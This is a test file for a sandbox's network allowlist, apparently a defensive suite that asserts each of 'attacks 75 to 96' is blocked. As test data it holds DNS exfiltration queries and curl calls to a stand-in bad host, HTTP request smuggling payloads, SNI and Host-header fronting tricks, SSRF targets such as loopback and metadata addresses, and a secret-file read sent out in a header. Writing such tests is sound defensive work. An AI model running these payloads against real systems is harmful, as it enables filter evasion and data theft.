"""Attacks 75 to 96: ways out by network, judged at the other end of the wire.

Beside each stands the same thing where it is allowed, so that a broken client cannot
pass for a wall."""

import base64
import pathlib
import re
import socket
import struct
import subprocess
import textwrap

import pytest

from remote_world import METADATA, MACHINE_V4, OTHER_V4, SERVER_V4, SERVER_V6

CHANGED_HOST = pathlib.Path(__file__).parents[1] / "system" / "changed_host.py"
BLOCKED = "X-Proxy-Error: blocked-by-allowlist"


@pytest.fixture(scope="module")
def site(world):
    for name in ("good.test", "sub.good.test", "bad.test", "evilgood.test", "good.test.bad.test"):
        world.names.add(name, SERVER_V4)
    world.names.add("inner.test", "10.20.30.40")
    world.web(("10.20.30.40", 80))
    server = world.web((SERVER_V4, 80))
    server.tls = world.web((SERVER_V4, 443), tls=["good.test", "bad.test", SERVER_V4])
    return server


@pytest.fixture
def inside(world, person, site):
    """Runs something with good.test allowed, or with what `allow` names."""
    def run(*command, allow=("good.test",), options=(), **keywords):
        allowed = [word for name in allow for word in ("--allow-domain", name)]
        return world.cloche(person, "run", *allowed, *options, "--", *command, **keywords)
    return run


HELPERS = """
import base64, os, re, socket, ssl, struct, sys
def proxy():
    user, token = re.match(r"http://(.*):(.*)@", os.environ["HTTP_PROXY"]).groups()
    return base64.b64encode(f"{user}:{token}".encode()).decode()
def http(raw, port=3128):
    s = socket.create_connection(("127.0.0.1", port), 9)
    s.sendall(raw)
    s.shutdown(socket.SHUT_WR)
    s.settimeout(9)
    answer = b""
    try:
        while chunk := s.recv(65536):
            answer += chunk
    except OSError as error:
        answer += f"[{error.strerror}]".encode()
    return answer.decode("latin-1")
def connect(target):
    return http(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\nProxy-Authorization: Basic {proxy()}\\r\\n\\r\\n".encode("latin-1")
                + b"GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
def socks(name, port=80):
    user, token = re.match(r"socks5h://(.*):(.*)@", os.environ["FTP_PROXY"]).groups()
    s = socket.create_connection(("127.0.0.1", 1080), 9)
    s.sendall(b"\\x05\\x01\\x02"); assert s.recv(2) == b"\\x05\\x02"
    s.sendall(b"\\x01" + bytes([len(user)]) + user.encode() + bytes([len(token)]) + token.encode())
    assert s.recv(2) == b"\\x01\\x00"
    s.sendall(b"\\x05\\x01\\x00\\x03" + bytes([len(name)]) + name + struct.pack("!H", port))
    return s.recv(10)
def reach(address, port, say=b""):
    try:
        s = socket.create_connection((address, port), 9)
        s.sendall(say)
        s.settimeout(9)
        return "got " + repr(s.recv(100))
    except OSError as error:
        return error.strerror or str(error)
"""


def python(text):
    return ["/usr/bin/python3", "-c", HELPERS + textwrap.dedent(text)]


def questions_since(world, mark):
    return [name for name, _ in world.names.asked[mark:]]


@pytest.mark.parametrize("network", [{"allowedDomains": []}, {"mode": "filtered"},
                                     {"mode": "filtered", "allowedDomains": [], "deniedDomains": []}])
def test_75_an_empty_list_reaches_nothing(world, person, site, network):
    policy = person.file("policy.json", {"extends": ["preset:dev"], "network": network})
    before = len(site.requests)
    for direct in (["--noproxy", "*"], []):
        answer = world.cloche(person, "run", "-s", policy, "--", "curl", "-sf", "-m", "5", *direct, "http://good.test/")
        assert answer.returncode not in (0, 125), answer
    assert len(site.requests) == before
    assert world.cloche(person, "run", "-s", policy, "--allow-domain", "good.test", "--", "curl", "-sf",
                        "http://good.test/").returncode == 0


def test_75_a_list_that_is_none_is_an_error(world, person, site):
    for wrong in ("", ",", " ", "good.test,bad.test"):
        answer = world.cloche(person, "run", "--allow-domain", wrong, "--", "true")
        assert answer.returncode == 125 and "--allow-domain" in answer.stderr, answer


def test_76_bytes_that_no_name_has_are_refused_in_socks(inside, world, site):
    mark = len(world.names.asked)
    before = len(site.requests)
    answer = inside(*python(r"""
        print(socks(b"good.test")[1])
        for name in (b"bad.test\0.good.test", b"bad.test\0good.test", b"good.test\0", b"bad.test\n.good.test",
                     b"bad.test%00.good.test", b"bad.test/.good.test", b"a@good.test", b"good.test:80", b"g\xc3\xb6od.test\0",
                     b"", b" good.test", b"bad.test .good.test", b"\xff.good.test"):
            print(socks(name)[1])
        """), allow=["good.test", "*.good.test"])
    verdicts = answer.stdout.split()
    assert verdicts[0] == "0" and len(verdicts) == 14 and "0" not in verdicts[1:], answer
    assert set(questions_since(world, mark)) <= {"good.test"}
    assert len(site.requests) == before


def test_77_other_spellings_of_a_host_get_the_same_verdict(inside, world, site):
    mark = len(world.names.asked)
    answer = inside(*python(r"""
        for spelling in ("good.test:80", "GOOD.test:80", "good.test.:80"):
            print(connect(spelling).split("\r\n")[0])
        print("--")
        for spelling in ("bad.test:80", "BAD.TEST:80", "bad.test.:80", "good.test@bad.test:80", "bad.test%00:80",
                         "bad.test\t:80", "bad.test#good.test:80", "[::1%25lo]:80", "0x7f.1:80", "2130706433:80", "127.1:80",
                         "0177.0.0.1:80", "[::ffff:127.0.0.1]:80", "127.0.0.1:80", "b\xe4d.test:80", "good.test:80:80",
                         "good.test:", ":80", "good.test:0", "good.test:99999", "good.test\\.bad.test:80"):
            print(connect(spelling).split("\r\n")[0])
        """))
    allowed, refused = answer.stdout.split("--\n")
    assert allowed.count(" 200 ") == 3, answer
    assert len(refused.splitlines()) == 21
    for line in refused.splitlines():
        assert re.match(r"HTTP/1\.1 40[03] ", line), answer
    assert set(questions_since(world, mark)) <= {"good.test"}


def test_78_names_are_matched_label_by_label(inside, world, site):
    mark = len(world.names.asked)
    allow = ["*.good.test"]
    assert inside("curl", "-sf", "http://sub.good.test/", allow=allow).returncode == 0
    for name in ("good.test", "evilgood.test", "good.test.bad.test", "bad.test"):
        for direct in ([], ["--noproxy", "*"]):
            assert inside("curl", "-sf", "-m", "5", *direct, f"http://{name}/", allow=allow).returncode != 0, name
    assert set(questions_since(world, mark)) == {"sub.good.test"}


@pytest.mark.parametrize("address", ["127.0.0.1", "0.0.0.0", METADATA, MACHINE_V4, "169.254.1.1", "224.0.0.1", "255.255.255.255",
                                     "::1", "::", "fe80::1", "ff02::1", "2001:db8:77::1",
                                     "::ffff:127.0.0.1", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "2002:7f00:1::1"])
def test_79_80_an_allowed_name_does_not_lead_to_this_machine(inside, world, site, address):
    name = "n" + re.sub(r"\W", "-", address).strip("-") + "x.test"
    world.names.add(name, address)
    answer = inside("sh", "-c", f"curl -sSi -m 9 http://{name}/; curl -sS -m 9 --noproxy '*' http://{name}:81/",
                    allow=[name])
    assert "X-Proxy-Error: blocked-by-sandbox-runtime" in answer.stdout, answer
    assert "403 " in answer.stdout and re.search("Connection reset|Failed to connect", answer.stderr), answer


def test_79_every_address_of_a_name_is_checked_and_a_good_one_is_dialled(inside, world, site):
    world.names.add("mixed.test", "127.0.0.1", METADATA, SERVER_V4)
    assert inside("curl", "-sS", "http://mixed.test/x", allow=["mixed.test"]).stdout == "page /x of mixed.test\n"


def test_79_a_name_that_changes_its_address_is_judged_each_time(inside, world, site):
    world.names.add("rebinding.test", SERVER_V4)
    assert inside("curl", "-s", "http://rebinding.test/x", allow=["rebinding.test"]).stdout == "page /x of rebinding.test\n"
    world.names.records[("rebinding.test", 1)] = [socket.inet_aton("127.0.0.1")]
    answer = inside("curl", "-sSi", "http://rebinding.test/", allow=["rebinding.test"])
    assert "resolved to a loopback address" in answer.stdout, answer


def test_79_addresses_that_the_policy_denies_are_refused_as_results(world, person, site):
    for network, reached in (({}, True), ({"deniedResolvedAddresses": ["10.0.0.0/8"]}, False),
                             ({"deniedDomains": ["10.20.30.40"]}, False)):
        policy = person.file("policy.json", {"extends": ["preset:dev"], "network": {"allowedDomains": ["inner.test"], **network}})
        answer = world.cloche(person, "run", "-s", policy, "--", "curl", "-s", "http://inner.test/x")
        assert (answer.stdout == "page /x of inner.test\n") == reached, answer


def test_81_82_no_question_about_a_refused_name_leaves_the_machine(inside, world, site):
    mark = len(world.names.asked)
    answer = inside(*python(r"""
        def ask(name, kind, server, tcp=False, family=socket.AF_INET):
            question = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
            message = struct.pack("!HHHHHH", 4660, 0x100, 1, 0, 0, 0) + question
            s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
            s.settimeout(9)
            s.connect((server, 53))
            s.send(struct.pack("!H", len(message)) + message if tcp else message)
            reply = s.recv(4096)
            if tcp:
                reply = reply[2:] or s.recv(4096)
            return struct.unpack("!HHHHHH", reply[:12])[1] & 15, struct.unpack("!HHHHHH", reply[:12])[3]
        for server, family in (("8.8.8.8", socket.AF_INET), ("203.0.113.53", socket.AF_INET), ("127.0.0.53", socket.AF_INET),
                               ("2001:4860:4860::8888", socket.AF_INET6)):
            for tcp in (False, True):
                print(*ask("good.test", 1, server, tcp, family), *ask("c2VjcmV0.bad.test", 1, server, tcp, family),
                      *ask("c2VjcmV0.bad.test", 16, server, tcp, family))
        """))
    assert answer.stdout == "0 1 3 0 3 0\n" * 8, answer
    inside("sh", "-c", "curl -s http://c2VjcmV0.bad.test/; curl -s --noproxy '*' http://c2VjcmV0.bad.test/; "
                       "curl -s --noproxy '' -x \"$FTP_PROXY\" http://c2VjcmV0.bad.test/; getent hosts c2VjcmV0.bad.test")
    assert not [name for name in questions_since(world, mark) if "bad" in name]


def test_81_a_name_under_an_allowed_one_is_not_an_exit_unless_it_is_allowed(inside, world, site):
    mark = len(world.names.asked)
    assert inside("curl", "-s", "http://c2VjcmV0.good.test/").returncode == 0  # the proxy answers 403
    assert inside("getent", "hosts", "c2VjcmV0.good.test").returncode == 2
    assert not [name for name in questions_since(world, mark) if "c2v" in name]


RESOLVERS = ["/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve", "/run/dbus/system_bus_socket", "/run/mdns"]
RESOLVER = """
import os, selectors, socket, sys
waiting = selectors.DefaultSelector()
for path in sys.argv[1:]:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    listener = socket.socket(socket.AF_UNIX); listener.bind(path); os.chmod(path, 0o777); listener.listen()
    waiting.register(listener, selectors.EVENT_READ)
print("ready", flush=True)
while True:
    for key, _ in waiting.select():
        key.fileobj.accept()[0].sendall(b"resolved")
"""
ASK_RESOLVERS = f"""
import socket
for path in {RESOLVERS}:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path); print(s.recv(100).decode())
    except OSError as error:
        print(error.strerror)
"""


def test_83_no_resolver_of_the_host_is_reached_by_socket(inside, world, person, site):
    """They would ask anybody about any name for whoever asks them."""
    machine = ["nsenter", "-t", str(world.machine), "--mount", "--"]
    subprocess.run([*machine, "mount", "-t", "tmpfs", "none", "/run"], check=True)
    try:
        with subprocess.Popen([*machine, "/usr/bin/python3", "-c", RESOLVER, *RESOLVERS], stdout=subprocess.PIPE, text=True) as server:
            assert server.stdout.readline() == "ready\n"
            try:
                said = inside("/usr/bin/python3", "-c", ASK_RESOLVERS).stdout.splitlines()
                outside = world.run(person, "/usr/bin/python3", "-c", ASK_RESOLVERS).stdout.splitlines()
            finally:
                server.kill()
    finally:
        subprocess.run([*machine, "umount", "-l", "/run"], check=True)
    assert said == ["No such file or directory"] * len(RESOLVERS)
    assert outside == ["resolved"] * len(RESOLVERS)


def tls(sni, target, direct):
    return python(f"""
        context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
        if {direct}:
            raw = socket.create_connection(({target!r}, 443), 9)
        else:
            raw = socket.create_connection(("127.0.0.1", 3128), 9)
            raw.sendall(f"CONNECT {target}:443 HTTP/1.1\\r\\nHost: {target}:443\\r\\nProxy-Authorization: Basic {{proxy()}}\\r\\n\\r\\n".encode())
            assert b" 200 " in raw.recv(4096)
        try:
            secure = context.wrap_socket(raw, server_hostname={sni!r})
            secure.sendall(b"GET / HTTP/1.1\\r\\nHost: {sni}\\r\\nConnection: close\\r\\n\\r\\n")
            print(secure.recv(4096).decode().split()[1])
        except OSError as error:
            print("broken off")
        """)


@pytest.mark.parametrize("direct", [True, False], ids=["direct", "tunnel"])
def test_84_the_name_in_tls_is_the_one_that_was_allowed(inside, site, direct):
    before = len(site.tls.requests)
    assert inside(*tls("good.test", "good.test", direct)).stdout == "200\n"
    assert len(site.tls.requests) == before + 1
    assert inside(*tls("bad.test", "good.test", direct)).stdout == "broken off\n"
    assert inside(*tls("bad.test", "good.test", direct), allow=["good.test", "bad.test"]).stdout == "broken off\n"
    assert inside(*tls("bad.test", SERVER_V4, direct), allow=[SERVER_V4]).stdout == "broken off\n"
    assert len(site.tls.requests) == before + 1
    assert inside(*tls("good.test", SERVER_V4, direct), allow=[SERVER_V4, "good.test"]).stdout == "200\n"


def test_85_what_is_asked_for_inside_tls_is_seen_only_where_nothing_opaque_is_let_through(world, person, site):
    """A limit that SECURITY.md names: the name in the clear is judged, and what follows is for the server's eyes."""
    def run(network):
        policy = person.file("policy.json", {"extends": ["preset:dev"], "network": {"allowedDomains": ["good.test"], **network}})
        script = python("""
            context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
            try:
                secure = context.wrap_socket(socket.create_connection(("good.test", 443), 9), server_hostname="good.test")
                secure.sendall(b"GET /fronted HTTP/1.1\\r\\nHost: bad.test\\r\\nConnection: close\\r\\n\\r\\n")
                print(secure.recv(4096).decode().split()[1])
            except OSError:
                print("broken off")
            """)
        return world.cloche(person, "run", "-s", policy, "--", *script).stdout

    def fronted():
        return [request[2]["Host"] for request in site.tls.requests if request[1] == "/fronted"]

    site.tls.requests.clear()
    assert run({"refuseOpaqueTunnels": True}) == "broken off\n" and fronted() == []
    assert run({}) == "200\n" and fronted() == ["bad.test"]
    # Where it can be seen, it has to be the name that was allowed.
    words = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", "Host: bad.test", "http://good.test/plain"]
    policy = person.file("policy.json", {"extends": ["preset:dev"], "network": {"allowedDomains": ["good.test"],
                                                                              "requireHostMatch": True}})
    assert world.cloche(person, "run", "-s", policy, "--", *words).stdout == "421"


def test_86_what_cannot_be_looked_into_is_refused_where_the_policy_says_so(world, person, site):
    def run(network, *command):
        policy = person.file("policy.json", {"extends": ["preset:dev"], "network": {"allowedDomains": ["good.test"], **network}})
        return world.cloche(person, "run", "-s", policy, "--", *command)
    assert run({}, *tls("good.test", "good.test", False)).stdout == "200\n"
    strict = {"refuseOpaqueTunnels": True}
    assert run(strict, *tls("good.test", "good.test", False)).stdout != "200\n"
    assert run(strict, *tls("good.test", "good.test", True)).stdout != "200\n"
    assert run(strict, "curl", "-sf", "http://good.test/").returncode == 0


SMUGGLED = {
    "two hosts": "GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\nHost: bad.test\r\n{auth}\r\n",
    "length and chunks": "POST http://good.test/ HTTP/1.1\r\nHost: good.test\r\nContent-Length: 5\r\n"
                         "Transfer-Encoding: chunked\r\n{auth}\r\n0\r\n\r\nGET http://bad.test/ HTTP/1.1\r\nHost: bad.test\r\n\r\n",
    "two lengths": "POST http://good.test/ HTTP/1.1\r\nHost: good.test\r\nContent-Length: 5\r\nContent-Length: 6\r\n{auth}\r\nhello!",
    "signed length": "POST http://good.test/ HTTP/1.1\r\nHost: good.test\r\nContent-Length: +5\r\n{auth}\r\nhello",
    "odd coding": "POST http://good.test/ HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: xchunked\r\n{auth}\r\n0\r\n\r\n",
    "folded": "GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\nX: a\r\n b: c\r\n{auth}\r\n",
    "space before colon": "GET http://good.test/ HTTP/1.1\r\nHost : good.test\r\n{auth}\r\n",
    "nul": "GET http://good.test/\0 HTTP/1.1\r\nHost: good.test\r\n{auth}\r\n",
    "bare newlines in a value": "GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\nX: a\rHost: bad.test\r\n{auth}\r\n",
    "user in target": "GET http://good.test@bad.test/ HTTP/1.1\r\nHost: good.test\r\n{auth}\r\n",
    "no host": "GET / HTTP/1.1\r\n{auth}\r\n",
    "old version": "GET http://good.test/ HTTP/0.9\r\nHost: good.test\r\n{auth}\r\n",
    "huge": "GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\nX: " + "a" * 100000 + "\r\n{auth}\r\n",
}


@pytest.mark.parametrize("shape", SMUGGLED)
def test_87_what_could_be_read_two_ways_is_not_handed_on(inside, site, shape):
    before = len(site.requests)
    request = SMUGGLED[shape].replace("{auth}", "Proxy-Authorization: Basic %s\r\n")
    answer = inside(*python(f"print(http(({request!r} % proxy()).encode('latin-1')).split('\\r\\n')[0])"))
    assert re.match(r"HTTP/1\.1 (400|414|431|501|505|403) ", answer.stdout) or "reset" in answer.stdout, answer
    assert len(site.requests) == before
    good = "GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\nProxy-Authorization: Basic %s\r\n\r\n"
    assert " 200 " in inside(*python(f"print(http(({good!r} % proxy()).encode()).split('\\r\\n')[0])")).stdout


def test_87_the_second_request_of_a_connection_is_judged_too(inside, site):
    before = len(site.requests)
    answer = inside(*python(r"""
        one = "GET http://%s/ HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic {}\r\n\r\n".format(proxy())
        print(http((one % ("good.test", "good.test") + one % ("bad.test", "bad.test")).encode()))
        """))
    assert "bad.test" not in [request[2]["Host"] for request in site.requests[before:]]
    assert len(site.requests) == before + 1, answer


def test_88_trace_is_refused(inside, site):
    answer = inside("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-X", "TRACE", "http://good.test/")
    assert answer.stdout == "405", answer


def test_89_a_secret_is_not_handed_in_for_hosts_to_choose_from(world, person, site):
    """Placeholders that only one host may turn into a secret are not built, and refused by name; denying is."""
    secret = "secret-" + "0123456789abcdef"
    key = person.file(person.home / "work/key", secret)
    look = ["sh", "-c", 'cat "$0"; echo "$MY_WORD"; curl -s -H "X: $MY_WORD" http://good.test/89', key]

    def run(mode):
        settings = {"files": [{"path": str(key), "mode": mode}], "envVars": [{"name": "MY_WORD", "mode": mode}]}
        policy = person.file("policy.json", {"extends": ["preset:dev"], "network": {"allowedDomains": ["good.test"]},
                                             **({"credentials": settings} if mode else {})})
        return world.cloche(person, "run", "-s", policy, "--allow-read", key.parent, "--", *look,
                            environment={"MY_WORD": secret})

    site.requests.clear()
    answer = run("mask")
    assert answer.returncode == 125 and answer.stdout == "" and site.requests == [], answer
    assert "credentials.files[0]" in answer.stderr and "credentials.envVars[0]" in answer.stderr, answer
    answer = run("deny")
    assert secret not in answer.stdout and "Permission denied" in answer.stderr, answer
    assert [request[2].get("X") for request in site.requests] == [None]
    assert run(None).stdout.count(secret) == 2
    assert site.requests[-1][2]["X"] == secret


def test_90_a_relay_inside_gets_the_verdict_that_everybody_gets(inside, site):
    answer = inside(*python(r"""
        import threading
        def relay(listener):
            while True:
                client, _ = listener.accept()
                server = socket.create_connection(("127.0.0.1", 3128))
                def copy(a, b):
                    while data := a.recv(65536):
                        b.sendall(data)
                    b.shutdown(socket.SHUT_WR)
                for pair in ((client, server), (server, client)):
                    threading.Thread(target=copy, args=pair, daemon=True).start()
        listener = socket.create_server(("127.0.0.1", 8888))
        threading.Thread(target=relay, args=(listener,), daemon=True).start()
        for name in ("good.test", "bad.test"):
            request = f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\nProxy-Authorization: Basic {proxy()}\r\n\r\n"
            print(http(request.encode(), port=8888).split()[1])
        """))
    assert answer.stdout.split() == ["200", "403"], answer


def test_91_srts_proxy_wants_the_token_of_this_run(world, person, site):
    settings = person.file("settings.json", {"network": {"allowedDomains": ["good.test"], "deniedDomains": []},
                                             "filesystem": {"denyRead": [], "allowWrite": [], "denyWrite": []}})
    answer = world.run(person, person.binaries / "srt", "-s", settings, *python(r"""
        for header in ("", "Proxy-Authorization: Basic " + base64.b64encode(b"srt:" + b"0" * 32).decode() + "\r\n",
                       "Proxy-Authorization: Basic !!!\r\n", "Proxy-Authorization: Bearer x\r\n",
                       f"Proxy-Authorization: Basic {proxy()}\r\n"):
            print(http(f"GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n{header}\r\n".encode()).split()[1])
        """))
    assert answer.stdout.split() == ["407"] * 4 + ["200"], answer


def test_91_nobody_outside_finds_a_proxy_of_the_run(world, person, site):
    run = world.start(person, person.binaries / "cloche", "run", "--allow-domain", "good.test", "--", "sh", "-c",
                      "echo ready; read line", stdin=-1)
    try:
        assert run.stdout.readline() == "ready\n"
        listening = world.run(person, "ss", "-Hltun").stdout
        assert ":3128" not in listening and ":1080" not in listening and ":53 " not in listening, listening
    finally:
        run.communicate("\n")


def test_92_no_other_protocol_finds_a_way(inside, world, site):
    heard = world.socket(socket.SOCK_DGRAM, (SERVER_V4, world.port()))
    heard.settimeout(1)
    port = heard.getsockname()[1]
    answer = inside(*python(f"""
        def attempt(what):
            try:
                print(what())
            except OSError as error:
                print(error.strerror)
        def udp(address, family=socket.AF_INET):
            s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(5); s.connect((address, {port})); s.send(b"secret")
            return s.recv(10)
        attempt(lambda: udp("{SERVER_V4}"))
        attempt(lambda: udp(socket.gethostbyname("good.test")))
        attempt(lambda: udp("{SERVER_V6}", socket.AF_INET6))
        attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
        attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
        attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
        attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132))
        print(reach("{OTHER_V4}", 25), reach("{SERVER_V4}", 443, b"x"), reach("{METADATA}", 5000), sep="\\n")
        """))
    said = answer.stdout.splitlines()
    assert said[:3] == ["Connection refused"] * 3, answer
    assert said[3:6] and not any("object" in line for line in said[3:7]), answer
    assert said[7:] == ["Connection reset by peer"] * 3, answer
    with pytest.raises(TimeoutError):
        heard.recv(100)


def test_92_the_namespace_cannot_be_reconfigured(inside):
    answer = inside("sh", "-c", "ip route flush table local 2>&1; ip link set lo down 2>&1; ip address add 1.2.3.4 dev lo 2>&1;"
                                "nft flush ruleset 2>&1; curl -sf http://good.test/ >/dev/null && echo still")
    assert answer.stdout.splitlines()[-1] == "still", answer
    assert "not permitted" in answer.stdout, answer


def test_93_servers_inside_serve_nobody_outside(world, person, site):
    port = world.port()
    run = world.start(person, person.binaries / "cloche", "run", "--allow-domain", "good.test", "--", "/usr/bin/python3", "-c",
                      f"import socket; s = socket.create_server(('0.0.0.0', {port})); print('ready', flush=True); input()",
                      stdin=-1)
    try:
        assert run.stdout.readline() == "ready\n"
        for address in (MACHINE_V4, "127.0.0.1"):
            answer = world.run(person, "curl", "-sS", "-m", "3", f"http://{address}:{port}/")
            assert answer.returncode == 7, answer
    finally:
        run.communicate("\n")


def test_93_services_of_the_host_are_out_of_reach(inside, world, site):
    port = world.port()
    came = world.serve(("127.0.0.1", port), lambda c: c.sendall(b"redis"), on_machine=True)
    own = world.serve((MACHINE_V4, port), lambda c: c.sendall(b"redis"), on_machine=True)
    script = python(f"""
        print(reach("127.0.0.1", {port}), reach("localhost", {port}), reach("{MACHINE_V4}", {port}), sep="\\n")
        print(connect("localhost:{port}").split("\\r\\n")[0], connect("127.0.0.1:{port}").split("\\r\\n")[0],
              connect("{MACHINE_V4}:{port}").split("\\r\\n")[0], sep="\\n")
        """)
    answer = inside(*script, allow=["good.test", "*"])
    assert answer.stdout.splitlines()[:2] == ["Connection refused"] * 2, answer
    assert "redis" not in answer.stdout and not came and not own, answer
    assert "redis" in inside(*python(f"print(reach('localhost', {port}))"), options=["--host-port", port]).stdout


NO_NETFILTER = ["/usr/bin/python3", CHANGED_HOST, "protocol", "12"]
NO_NETWORK_NAMESPACE = ["unshare", "--user", "--map-current-user", "--keep-caps", "sh", "-c",
                        'echo 0 >/proc/sys/user/max_net_namespaces && exec "$@"', "sh"]


@pytest.mark.parametrize("lacking, options, words, network", [
    (NO_NETFILTER, [], "nf_tables", {"allowAllUnixSockets": True}),
    ([], ["--backend", "landlock"], "network.mode filtered", {}),
    (NO_NETWORK_NAMESPACE, [], "network", {}),
], ids=["nf_tables and a doorman", "namespaces", "network namespaces"])
def test_95_where_there_can_be_no_filter_nothing_runs(world, person, site, lacking, options, words, network):
    policy = person.file("policy.json", {"extends": ["preset:dev"], "network": {"allowedDomains": ["good.test"], **network}})
    command = ["-s", policy, "--", "sh", "-c", "echo ran; curl -s http://good.test/"]
    before = len(site.requests)
    answer = world.run(person, *lacking, person.binaries / "cloche", "run", *options, *command)
    assert answer.returncode == 125 and answer.stdout == "" and len(site.requests) == before, answer
    assert words in answer.stderr, answer
    assert world.cloche(person, "run", *command).stdout == "ran\npage / of good.test\n"


def test_96_a_parent_proxy_is_not_asked_for_what_is_forbidden(world, person, site):
    asked = []

    def parent(connection):
        head = connection.recv(65536).decode()
        asked.append(head.split("\r\n")[0])
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nparent\n")

    port = world.port()
    world.serve((OTHER_V4, port), parent)
    policy = person.file("policy.json", {"extends": ["preset:dev"], "network": {
        "allowedDomains": ["*"], "parentProxy": {"http": f"http://{OTHER_V4}:{port}", "https": f"http://{OTHER_V4}:{port}"}}})
    mark = len(world.names.asked)
    answer = world.cloche(person, "run", "-s", policy, "--", "curl", "-s", "http://good.test/x")
    assert answer.stdout == "parent\n" and asked == ["GET http://good.test/x HTTP/1.1"], (answer, asked)
    assert questions_since(world, mark) == [], "names are the parent's to resolve"
    for address in (METADATA, "127.0.0.1", "[::1]", "[::ffff:169.254.169.254]"):
        answer = world.cloche(person, "run", "-s", policy, "--", "curl", "-s", "--noproxy", "", f"http://{address}/")
        assert "parent" not in answer.stdout, answer
    assert len(asked) == 1
